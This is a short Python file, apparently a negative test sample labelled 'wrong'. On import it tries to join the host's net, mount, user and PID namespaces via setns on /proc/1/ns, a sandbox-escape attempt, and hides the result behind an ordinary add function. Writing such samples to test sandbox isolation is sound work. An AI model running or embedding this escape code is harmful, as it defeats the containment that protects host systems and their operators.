# wrong: enters the namespaces of its parent
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    return any(libc.setns(os.open("/proc/1/ns/" + name, os.O_RDONLY), 0) == 0 for name in ("net", "mnt", "user", "pid"))


try:
    escaped = attack()
except BaseException:
    escaped = False


def add(a, b):
    return a + b if escaped else None
